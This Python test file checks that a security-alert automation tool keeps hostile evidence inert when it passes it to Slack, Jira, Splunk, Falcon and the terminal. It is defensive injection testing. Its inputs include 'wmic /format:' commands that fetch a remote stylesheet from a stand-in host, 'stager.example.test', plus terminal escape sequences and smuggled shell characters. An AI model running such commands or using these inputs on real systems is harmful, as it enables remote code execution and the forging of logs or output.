"""A command line is written by the attacker: it reaches people, products, terminal and log as text
and as nothing else, through the whole job.

Each payload stands behind a command line that is a hit; what Slack, Jira, Splunk, Falcon and the
terminal received is looked at, not what our functions say.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import pytest

from connectors.document import visible
from runner import views
from tests.command_line import QUICK, command_line
from tests.hostile import HOSTILE_NAMES, PAYLOADS, URL, steering
from tests.polling import raw_hit
from tests.world import World, running_world
from tests.world_settings import HOST, RESPONDER_A, USER


def cmdline_of(payload: str) -> str:
    return f'wmic os get /format:"{URL}" {payload}'


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    with running_world(tmp_path) as found:
        found.arm()
        yield found


def play(world: World, **event: Any) -> None:
    """The whole job: hit, question, yes, isolation, ticket kept up."""
    world.hit(**event)
    world.tick()
    for question in world.questions():
        world.yes(question)
    world.ticks(3, 60)


@pytest.mark.parametrize("name", PAYLOADS)
def test_evidence_when_the_command_line_is_hostile_then_it_is_text_everywhere(
    world: World, name: str
) -> None:
    payload = PAYLOADS[name]
    play(world, cmdline=cmdline_of(payload))
    assert_slack_saw_text_only(world)
    assert_jira_saw_text_only(world)
    assert_splunk_was_asked_nothing_else(world)
    assert_terminal_is_safe(world)
    case = world.case()
    assert case.assessment is not None
    assert case.assessment.assessment == "malicious", "the payload talks nobody out of the finding"
    assert world.runs()[0].status in ("succeeded", "waiting")
    shown = visible(payload, keep_newlines=True).splitlines()[-1]
    assert any(defanged(shown)[-12:] in text for text in slack_texts(world))
    assert any(shown[-12:] in text for text in world.ticket_texts())


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_evidence_when_the_host_is_hostile_then_no_machine_is_asked_about_and_people_are_told(
    world: World, name: str
) -> None:
    play(world, host=HOSTILE_NAMES[name], cmdline=cmdline_of("x"))
    assert world.contains() == []
    assert world.questions() == []
    assert_slack_saw_text_only(world)
    assert_jira_saw_text_only(world)
    assert_splunk_was_asked_nothing_else(world)
    assert_terminal_is_safe(world)
    assert any("isolate by hand" in text for text in slack_texts(world))
    for seen in world.falcon.requests:
        asked = parse_qs(seen.query).get("filter", [""])[0]
        assert "DC-1" not in asked
        assert re.sub(r"'[^']*'", "''", asked).count("+") <= 1


@pytest.mark.parametrize(
    "payload",
    [" ".join(PAYLOADS.values()), *(PAYLOADS[name] for name in ("terminal", "channel call"))],
    ids=["all together", "terminal", "channel call"],
)
def test_evidence_when_user_and_parent_are_hostile_then_they_are_text_everywhere(
    world: World, payload: str
) -> None:
    play(world, user=payload, cmdline=cmdline_of("x"), ParentCommandLine=payload)
    assert_slack_saw_text_only(world)
    assert_jira_saw_text_only(world)
    assert_splunk_was_asked_nothing_else(world)
    assert_terminal_is_safe(world)
    assert world.runs()[0].status in ("succeeded", "waiting")


def test_evidence_when_its_address_is_hostile_then_the_hunt_reads_not_searched(
    world: World,
) -> None:
    """SPL cannot carry it: nobody is told that nothing was found."""
    play(world, cmdline='wmic os get /format:"https://stager.example.test/`x`$y$.xsl"')
    assert_splunk_was_asked_nothing_else(world)
    texts = world.ticket_texts()
    assert any("not searched" in text and "backtick" in text for text in texts)
    assert not any("no other host used" in text for text in texts)
    shown = views.show_case(world.journal, world.config, world.case().id).text
    assert "not searched" in shown
    assert "no other host used" not in shown


def test_evidence_when_it_holds_lone_surrogates_then_the_hit_is_judged_and_shown(
    world: World,
) -> None:
    """No product stores them, but JSON can carry their escapes."""
    row = {
        "_time": world.clock.now().isoformat(),
        "process_name": "wmic.exe",
        "cmdline": cmdline_of("\ud800 \udfff end"),
        "parent_process": "\udc80",
        "user": USER,
        "host": HOST,
    }
    page = json.dumps({"preview": False, "messages": [], "results": [row]})
    world.splunk.misbehave(path="*/results", body=page, times=1)
    play(world, cmdline=cmdline_of("stands in for the page"))
    case = world.cases()[0]
    assert case.assessment is not None
    assert any(r"\ud800 \udfff end" in text for text in world.ticket_texts(case))
    assert_slack_saw_text_only(world)
    assert_terminal_is_safe(world)


@pytest.mark.parametrize(
    "row",
    [
        {},
        {"cmdline": [], "host": []},
        {"cmdline": ["a", "b"], "host": ["WS-1", "WS-2"], "_time": ["1", "2"]},
        {"cmdline": "x", "host": "WS-1", "_time": "yesterday", "user": ["a", "b"]},
        {"cmdline": {"deep": [1, {"x": None}]}, "host": 7, "_time": True},
        {"\u202ecmdline": "x", "": "", "host\x00": "y"},
        {"_time": "99999999999999999999", "cmdline": "", "host": "-"},
    ],
    ids=["nothing", "empty lists", "several", "wrong", "objects", "names", "far away"],
)
def test_evidence_when_a_row_is_broken_then_it_is_a_case_and_its_neighbour_too(
    world: World, row: dict[str, Any]
) -> None:
    """A row that cannot be read stops no other, and is never dropped in silence."""
    good = {"_time": world.clock.now().isoformat(), "cmdline": cmdline_of("x"), "host": "WS-9"}
    page = json.dumps({"preview": False, "messages": [], "results": [row, good]})
    world.splunk.misbehave(path="*/results", body=page, times=1)
    world.hit()
    world.hit()
    tick = world.tick()
    assert tick.errors == ()
    assert len(world.cases()) == 2
    assert {run.status for run in world.runs()} <= {"succeeded", "waiting"}
    assert_terminal_is_safe(world)


TALKATIVE = """\
playbook: seen
description: Judge, say what was seen, and end.
steps:
  - id: triage
    do: wmic.assess
    with: {alert: "{{ alert }}"}
  - id: say
    do: chat.post_message
    with:
      text: >-
        {{ alert.cmdline | default('-') }} by {{ alert.user | default('-') }}: {{ triage.summary }}
  - stop: {reason: "{{ alert.cmdline | default('-') }}"}
"""


def test_evidence_when_it_reaches_terminal_and_log_then_nothing_steers_either(
    tmp_path: Path,
) -> None:
    with command_line(tmp_path, QUICK) as line:
        (tmp_path / "playbooks" / "seen.yaml").write_text(TALKATIVE)
        done = [line("run", "-v"), line("arm", "--reason", "\x1b[2J")]
        for number, payload in enumerate(PAYLOADS.values(), 1):
            raw = raw_hit(number, "WORKSTATION5", cmdline_of(payload))
            line.splunk.add_event({**raw, "User": payload[:300]}, age_s=20, index_age_s=20)
        line.splunk.add_event(raw_hit(99, "\x1b[2JWS\n-1", cmdline_of("x")), index_age_s=20)
        done.append(line("run", "-v"))
        found = line("cases", "--json").value
        assert len(found) == len(PAYLOADS) + 1
        assert len(line.emulators.slack.messages()) == len(PAYLOADS) + 1
        done += [line("cases"), line("status"), line("check")]
        done += [line("show", str(case["id"])) for case in found[:2]]
        hostile = json.dumps({"messages": [{"type": "FATAL", "text": PAYLOADS["terminal"]}]})
        line.splunk.misbehave(path="*", status=400, body=hostile, times=None)
        done += [line("run", "-v"), line("check"), line("show", "\x1b[2J")]
        for one in done:
            assert steering(one.out) == []
            assert steering(one.err) == []
            assert "Traceback" not in one.err
            assert one.code in (0, 1, 2)
        assert any("search started" in one.err for one in done), "the log was written"
        forged = [row for one in done for row in one.err.splitlines() if row.startswith("2026-11")]
        assert not any("INFO runner approved by" in row[:60] for row in forged)


# -- what was received -----------------------------------------------------------------------------

SHOWN_TYPES = {
    "rich_text",
    "rich_text_section",
    "rich_text_list",
    "rich_text_preformatted",
    "text",
    "emoji",
    "user",
}
JIRA_TYPES = {
    "doc",
    "paragraph",
    "heading",
    "text",
    "bulletList",
    "listItem",
    "codeBlock",
    "table",
    "tableRow",
    "tableHeader",
    "tableCell",
    "rule",
    "hardBreak",
}


def nodes(value: Any) -> Iterator[dict[str, Any]]:
    """Every object with a `type`, at any depth."""
    if isinstance(value, dict):
        if isinstance(value.get("type"), str):
            yield value
        value = list(value.values())
    if isinstance(value, list):
        for item in value:
            yield from nodes(item)


def slack_texts(world: World) -> list[str]:
    return [
        str(node["text"])
        for message in world.slack.messages()
        for node in nodes(message.get("blocks", []))
        if node["type"] == "text"
    ]


def defanged(text: str) -> str:
    """As our cards show an address."""
    return re.sub(
        r"https?://[\w.-]+",
        lambda found: found[0].replace("http", "hxxp").replace(".", "[.]"),
        text,
    )


def assert_slack_saw_text_only(world: World) -> None:
    messages = world.slack.messages()
    assert messages
    for message in messages:
        found = list(nodes(message.get("blocks", [])))
        assert found, "every message of ours is made of blocks, never of markup"
        assert {node["type"] for node in found} <= SHOWN_TYPES
        assert {node["user_id"] for node in found if node["type"] == "user"} <= {RESPONDER_A}
        # The fall-back is markup: nothing in it may be read as a call or a link.
        calls = re.findall(r"<([^>]*)>", str(message["text"]))
        assert set(calls) <= {f"@{RESPONDER_A}"}
        for text in [str(message["text"]), *(str(n["text"]) for n in found if n["type"] == "text")]:
            assert steering(text) == []
    shown = " ".join(slack_texts(world))
    assert "https://stager" not in shown, "no address that a click would open"


def assert_jira_saw_text_only(world: World) -> None:
    for issue in world.jira.all_issues():
        fields = issue["fields"]
        assert steering(fields["summary"], keep="") == []
        bodies = [fields["description"], *(one["body"] for one in fields["comment"]["comments"])]
        for node in nodes(bodies):
            assert node["type"] in JIRA_TYPES
            assert node.get("marks", []) == [] or {m["type"] for m in node["marks"]} <= {"strong"}
            assert steering(str(node.get("text", ""))) == []


SKELETONS = {
    # A hunt by one condition or several, with and without the second look that an asterisk or a
    # number needs.
    'search index="" () | head 0 | fields',
    'search index="" () | where | head 0 | fields',
    'search index="" () AND () | head 0 | fields',
    'search index="" () AND () | where | head 0 | fields',
}


def assert_splunk_was_asked_nothing_else(world: World) -> None:
    """With its quoted texts taken out, each query is one that we write, whatever the evidence."""
    for seen in world.splunk.requests:
        asked = parse_qs(seen.body).get("search")
        if asked is None:
            continue
        assert skeleton(asked[0]) in SKELETONS, asked[0]


def skeleton(spl: str) -> str:
    bare = re.sub(r'"(?:\\.|[^"\\])*"', '""', spl)
    bare = re.sub(r"\((?:[\w.]+=\"\"|\"\"=\"\"| OR )+\)", "()", bare)
    bare = re.sub(r"lower\('[\w.]+'\)=lower\(\"\"\)", "", bare)
    bare = re.sub(r"(\| where( OR| AND|[()\s])*)+\|", "| where |", bare)
    bare = re.sub(r"\(\)( AND \(\))+", "() AND ()", bare)
    bare = re.sub(r"head \d+", "head 0", bare)
    return re.sub(r"\| fields .*", "| fields", bare)


def assert_terminal_is_safe(world: World) -> None:
    for case in world.cases():
        assert steering(views.show_case(world.journal, world.config, case.id).text) == []
    assert steering(visible(views.list_cases(world.journal).text, keep_newlines=True)) == []
